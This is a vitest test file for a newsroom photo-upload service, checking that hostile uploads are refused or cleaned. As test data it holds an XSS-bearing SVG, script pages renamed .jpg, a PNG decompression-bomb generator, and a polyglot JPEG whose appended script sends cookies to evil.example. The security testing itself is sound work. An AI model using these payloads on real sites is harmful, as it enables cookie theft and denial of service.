import fs from 'node:fs'
import path from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import { makeJpeg, uploadForm } from './helpers/images.ts'
import { createUser, startTestApp, type TestApp } from './helpers/payload.ts'
import { uploadChecks } from './helpers/uploadChecks.ts'

let app: TestApp
let token: string

beforeAll(async () => {
  app = await startTestApp('hostile_uploads')
  await createUser(app.payload, 'editor@newsroom.test', ['editor'])
  token = await app.rest.login('editor@newsroom.test', 'editor@newsroom.test-password')
})

afterAll(async () => {
  await app?.close()
})

const { expectRefused } = uploadChecks(
  () => app,
  () => token,
)

/** CRC-32 as PNG chunks use it. */
function crc32(bytes: Buffer): number {
  let crc = 0xffffffff
  for (const byte of bytes) {
    crc ^= byte
    for (let k = 0; k < 8; k += 1) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1
  }
  return (crc ^ 0xffffffff) >>> 0
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const crc = Buffer.alloc(4)
  crc.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, crc])
}

/** A valid PNG header claiming `width` × `height` pixels, in a file of a few dozen bytes. */
function pixelBomb(width: number, height: number): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([8, 2, 0, 0, 0], 8) // 8-bit RGB
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', Buffer.from([0x78, 0x9c, 0x63, 0x00, 0x00, 0x00, 0x01, 0x00, 0x01])),
    pngChunk('IEND', Buffer.alloc(0)),
  ])
}

describe('hostile uploads', () => {
  it('refuse an SVG that carries a script, whatever its name', async () => {
    const svg = Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg" width="640" height="400" onload="alert(document.cookie)"><script>fetch("/api/users")</script></svg>',
    )
    await expectRefused(svg, 'handout.jpg', 'image/jpeg', /SVG drawing/)
    await expectRefused(svg, 'handout.svg', 'image/svg+xml', /SVG drawing/)
  })

  it('refuse an HTML page and a PDF renamed .jpg', async () => {
    await expectRefused(
      Buffer.from('<!doctype html><html><body><script>alert(1)</script></body></html>'),
      'page.jpg',
      'image/jpeg',
      /“page.jpg” is not an image that can be read/,
    )
    const pdf = Buffer.from(
      '%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n',
    )
    await expectRefused(pdf, 'statement.jpg', 'image/jpeg', /“statement.jpg” is not an image that can be read/)
  })

  it('refuse a decompression bomb before decoding it, and stay within bounded memory', async () => {
    const bomb = pixelBomb(30_000, 30_000)
    expect(bomb.length).toBeLessThan(200)
    const before = process.memoryUsage().rss
    await expectRefused(
      bomb,
      'bomb.png',
      'image/png',
      /30000 × 30000 pixels \(900 megapixels\); photos may have at most 120 megapixels/,
    )
    // Decoding it would take 2.7 GB; refusing it takes next to nothing.
    expect(process.memoryUsage().rss - before).toBeLessThan(200 * 1024 * 1024)
  })

  it('refuse a JPEG cut short and an empty file, with a message saying so', async () => {
    const jpeg = await makeJpeg(1200, 800)
    await expectRefused(
      jpeg.subarray(0, Math.floor(jpeg.length / 2)),
      'cut.jpg',
      'image/jpeg',
      /“cut.jpg” is cut short/,
    )
    await expectRefused(Buffer.alloc(0), 'empty.jpg', 'image/jpeg', /“empty.jpg” is empty/)
  })

  it('store a polyglot (a JPEG with a page appended) without the appended bytes, and serve it as an image only', async () => {
    const jpeg = await makeJpeg(640, 400)
    const page = Buffer.from(
      '<html><body><script>document.location="https://evil.example/?"+document.cookie</script></body></html>',
    )
    const response = await app.rest.post(
      '/photos',
      uploadForm(Buffer.concat([jpeg, page]), 'polyglot.jpg', 'image/jpeg', { alt: 'Delegations' }),
      { token },
    )
    expect(response.status).toBe(201)
    const stored = fs.readFileSync(path.join(app.mediaDir, response.json.doc.filename))
    expect(stored.length).toBe(jpeg.length)
    expect(stored.includes(Buffer.from('<script>'))).toBe(false)
    expect(response.json.doc.filesize).toBe(jpeg.length)

    // A photo no published article shows is served to the desk only.
    const served = await app.rest.get(`/photos/file/${response.json.doc.filename}`, { token })
    expect(served.status).toBe(200)
    expect(served.headers.get('content-type')).toBe('image/jpeg')
    expect(served.headers.get('x-content-type-options')).toBe('nosniff')
    expect(served.headers.get('content-security-policy')).toMatch(/sandbox/)
  })

  it('keep the server answering after all of the above', async () => {
    const response = await app.rest.get('/photos?limit=1', { token })
    expect(response.status).toBe(200)
    const ok = await app.rest.post(
      '/photos',
      uploadForm(await makeJpeg(800, 600), 'after.jpg', 'image/jpeg', { alt: 'After the attempts' }),
      { token },
    )
    expect(ok.status).toBe(201)
  })
})
